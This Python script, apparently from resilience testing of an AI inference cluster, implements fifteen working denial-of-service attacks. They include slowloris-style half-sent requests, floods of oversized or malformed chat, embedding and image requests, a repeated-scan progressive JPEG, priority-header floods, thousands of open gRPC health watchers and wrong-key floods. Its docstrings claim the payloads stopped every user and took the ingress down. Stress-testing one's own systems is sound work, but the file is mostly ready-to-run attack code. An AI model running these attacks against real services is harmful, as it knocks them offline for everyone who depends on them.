"""Attacks on one cluster, each as a process of its own: `attacks.py NAME URL GRPC KEY` runs one until it is ended.

It prints a line when the attack is in full swing. What is sent was found to stop everybody, one by one.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import io
import itertools
import json
import resource
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

import grpc
from PIL import Image

WATCH = "/grpc.health.v1.Health/Watch"
NUM_WATCHERS = 16_600
NUM_HALF_BODIES, NUM_HALF_HEADS = 1_100, 8_200
ADDRESS = "127.0.0.66"  # of attacks by connections alone
PACE_S = 0.1  # between an answer and the next request of a connection: these attacks cost next to nothing
PIECE_BYTES = 2**18
HOLD_S = 15.0  # between two bytes, and between two connections
REFUSED_PER_S = 720


@dataclass(frozen=True)
class Target:
    """The cluster, and the key that the attacker has."""

    host: str
    port: int
    grpc: str
    key: str

    async def connect(self, address: str = "127.0.0.1") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port, local_addr=(address, 0))

    def message(self, path: str, body: bytes, *more: str, key: str | None = None) -> bytes:
        """Return a whole request. `more` are lines of its head."""
        lines = [f"POST {path} HTTP/1.1", "host: door", "content-type: application/json"]
        lines += [f"x-api-key: {self.key if key is None else key}", f"content-length: {len(body)}", *more]
        return "\r\n".join([*lines, "", ""]).encode() + body


Attack = Callable[[Target], Awaitable[None]]


async def repeat(target: Target, message: bytes, num_connections: int, pause_s: float = 0.0) -> None:
    """Send one request again and again over some connections, each behind the last one's answer.

    The statuses of the answers are shown when they are new: a request that is wrong in another way attacks nothing.
    """
    statuses = set[bytes]()

    async def caller() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, ValueError):
                reader, writer = await target.connect()
                async with _closed(writer):
                    while True:
                        sending = asyncio.create_task(_send(writer, message))
                        status, text, is_open = await _read_answer(reader)
                        if status not in statuses:
                            statuses.add(status)
                            print(f"    {status.decode()} {text[:160].decode()}", file=sys.stderr, flush=True)
                        sending.cancel()
                        await asyncio.sleep(pause_s)
                        if not is_open:
                            break
            await asyncio.sleep(0.01)

    callers = [asyncio.create_task(caller()) for _ in range(num_connections)]
    await asyncio.sleep(0.5)
    print("begun", flush=True)
    await asyncio.gather(*callers)


async def _send(writer: asyncio.StreamWriter, message: bytes) -> None:
    """Send a request piece by piece: what asyncio keeps of 57 MiB that nobody takes costs the processor that others
    share with this attacker, and is no attack."""
    with contextlib.suppress(OSError):
        for start in range(0, len(message), PIECE_BYTES):
            writer.write(message[start : start + PIECE_BYTES])
            await writer.drain()


async def _read_answer(reader: asyncio.StreamReader) -> tuple[bytes, bytes, bool]:
    """Read one answer, and return its status, its body, and whether the connection stays open."""
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    status = head.split(b" ", 2)[1]
    if b"content-length: " not in head:
        return status, b"", False
    text = await reader.readexactly(int(head.partition(b"content-length: ")[2].split()[0]))
    return status, text, b"connection: close" not in head


@contextlib.asynccontextmanager
async def _closed(writer: asyncio.StreamWriter) -> AsyncIterator[None]:
    try:
        yield
    finally:
        writer.close()


async def empty_messages(target: Target) -> None:
    """A chat of 3,000 `{}`, 9 KB: the errors were compared with each other."""
    await repeat(target, target.message("/v1/chat/completions", _chat(b"{}", 3_000)), 2, PACE_S)


async def many_empty_messages(target: Target) -> None:
    """1.4 MB of them stopped the ingress for good."""
    await repeat(target, target.message("/v1/chat/completions", _chat(b"{}", 466_000)), 2, PACE_S)


async def many_messages(target: Target) -> None:
    """20,000 right ones, 0.7 MB: each was made an object twice, to hear that they are too many."""
    await repeat(
        target, target.message("/v1/chat/completions", _chat(b'{"role":"user","content":"x"}', 20_000)), 2, PACE_S
    )


async def tool_results_backwards(target: Target) -> None:
    """Ollama's results name the calls that they answer: each was looked for among all."""
    names = [f"f{number}" for number in range(6_000)]
    calls = [{"function": {"name": name, "arguments": {}}} for name in names]
    results = [{"role": "tool", "tool_name": name, "content": "x"} for name in reversed(names)]
    messages = [{"role": "assistant", "content": "", "tool_calls": calls}, *results]
    body = json.dumps({"model": "adder", "messages": messages, "stream": False}).encode()
    await repeat(target, target.message("/api/chat", body), 2, PACE_S)


async def adapters_in_a_text(target: Target) -> None:
    """A KServe parameter that names 500,000 adapters."""
    inputs = [{"name": "text_input", "datatype": "BYTES", "shape": [1], "data": ["1 + 1"]}]
    body = json.dumps({"inputs": inputs, "parameters": {"lora": "a," * 500_000}}).encode()
    await repeat(target, target.message("/v2/models/adder/infer", body), 2, PACE_S)


async def vector_as_input(target: Target) -> None:
    """A vector sent as the input of an embedding, by mistake or not."""
    body = json.dumps({"model": "digits-clip", "input": [0.5] * 1_000}).encode()
    await repeat(target, target.message("/v1/embeddings", body), 2, PACE_S)


def _chat(message: bytes, number: int) -> bytes:
    return b'{"model":"adder","messages":[' + b",".join(itertools.repeat(message, number)) + b"]}"


async def half_bodies(target: Target) -> None:
    """Bodies of which as much comes as HAProxy waits for, then a byte now and then; without any key."""
    message = target.message("/v1/chat/completions", b" " * 60_000, key="atl_none")[: -60_000 + 40_000]
    await _hold_open(target, [message] * NUM_HALF_BODIES, "127.0.0.1", b" ")


async def half_heads(target: Target) -> None:
    """Half of a header line each, from one address."""
    message = b"POST /v1/chat/completions HTTP/1.1\r\nhost: do"
    await _hold_open(target, [message] * NUM_HALF_HEADS, ADDRESS, b"o")


async def _hold_open(target: Target, messages: list[bytes], address: str, drop: bytes) -> None:
    """Keep a connection for each message, open another one later where one is closed, and send a byte now and then."""
    opening = asyncio.Semaphore(64)

    async def hold(message: bytes) -> None:
        while True:
            with contextlib.suppress(OSError):
                async with opening:
                    reader, writer = await target.connect(address)
                    writer.write(message)
                async with _closed(writer):
                    while not reader.at_eof():
                        with contextlib.suppress(TimeoutError):
                            async with asyncio.timeout(HOLD_S):
                                await reader.read(2**16)
                        writer.write(drop)
            await asyncio.sleep(HOLD_S)

    held = [asyncio.create_task(hold(message)) for message in messages]
    await asyncio.sleep(3)
    print("begun", flush=True)
    await asyncio.gather(*held)


async def lists_as_images(target: Target) -> None:
    """57 MiB of empty lists where images are expected."""
    body = b'{"model":"digits-flux","prompt":"x","control":[' + b"[]," * (57 * 2**20 // 3) + b"[]]}"
    await repeat(target, target.message("/v1/images/generations", body), 2, PACE_S)


async def endless_scans(target: Target) -> None:
    """A progressive JPEG of 50 KB with hundreds of scans, eight at once. What is asked for besides takes no time."""
    image = base64.b64encode(progressive_jpeg(50_000)).decode()
    small = {"model": "digits-flux", "prompt": "x", "width": 32, "height": 32, "num_inference_steps": 1}
    body = json.dumps(small | {"init_image": image, "strength": 1.0}).encode()
    await repeat(target, target.message("/v1/images/generations", body), 8, PACE_S)


def progressive_jpeg(num_bytes: int) -> bytes:
    """Return a file of about that size whose last scan comes again and again."""
    file = io.BytesIO()
    Image.new("RGB", (2048, 2048), (90, 120, 150)).save(file, "JPEG", progressive=True, quality=50)
    data = file.getvalue()
    start = data.rindex(b"\xff\xda")
    length = struct.unpack(">H", data[start + 2 : start + 4])[0]
    end = start + 2 + length
    while not (data[end] == 0xFF and data[end + 1] not in (0, *range(0xD0, 0xD8))):
        end += 1
    scan = data[start:end]
    return data[:end] + scan * max(1, (num_bytes - len(data)) // len(scan)) + data[end:]


async def equal_flood(target: Target) -> None:
    """As many long texts at once as nobody answers soon. No attack: what `urgent_flood` is compared with."""
    await _flood(target)


async def urgent_flood(target: Target) -> None:
    """The same, each the most urgent by its own word."""
    await _flood(target, "x-priority: 1")


async def _flood(target: Target, *more: str) -> None:
    body = {"model": "adder", "prompt": "12 + 7", "max_tokens": 64, "ignore_eos": True}
    await repeat(target, target.message("/v1/completions", json.dumps(body).encode(), *more), 64, PACE_S)


async def watchers(target: Target) -> None:
    """Calls of the health service that stay open, without a key."""
    channels = [
        grpc.aio.insecure_channel(target.grpc, options=[("grpc.use_local_subchannel_pool", 1)]) for _ in range(8)
    ]
    calls = [channels[number % 8].unary_stream(WATCH)(b"") for number in range(NUM_WATCHERS)]
    for start in range(0, len(calls), 500):
        await asyncio.gather(*(call.initial_metadata() for call in calls[start : start + 500]), return_exceptions=True)
    print("begun", flush=True)
    await asyncio.Event().wait()


async def wrong_keys(target: Target) -> None:
    """Keys that do not hold, 720 a second."""
    message = target.message("/v1/chat/completions", b'{"model":"adder"}', key="atl_wrong")
    await repeat(target, message, 8, pause_s=8 / REFUSED_PER_S)


async def no_rows(target: Target) -> None:
    """A tensor without rows for a head, as bytes: each later request for it failed."""
    tensor = {"name": "features", "datatype": "FP32", "shape": [0, 128], "parameters": {"binary_data_size": 0}}
    body = json.dumps({"inputs": [tensor]}).encode()
    length = f"inference-header-content-length: {len(body)}"
    await repeat(target, target.message("/v2/models/texts-head/infer", body, length), 1, pause_s=0.05)


ATTACKS: dict[str, Attack] = {
    "A1 3,000 empty messages": empty_messages,
    "A1 1.4 MB of empty messages": many_empty_messages,
    "A1 20,000 messages": many_messages,
    "A1 6,000 tool results": tool_results_backwards,
    "A1 500,000 adapters": adapters_in_a_text,
    "A1 a vector as text": vector_as_input,
    "A2 half-sent bodies": half_bodies,
    "A2 half-sent heads": half_heads,
    "A3 57 MiB of lists": lists_as_images,
    "A4 progressive JPEG": endless_scans,
    "A5 a flood, equal": equal_flood,
    "A5 a flood, urgent": urgent_flood,
    "A6 16,600 watchers": watchers,
    "A6 wrong keys": wrong_keys,
    "A7 no rows": no_rows,
}


def main() -> None:
    name, url, grpc_address, key = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    where = urlsplit(url)
    asyncio.run(_run(ATTACKS[name], Target(where.hostname or "", where.port or 80, grpc_address, key)))


async def _run(attack: Attack, target: Target) -> None:
    await attack(target)


if __name__ == "__main__":
    main()
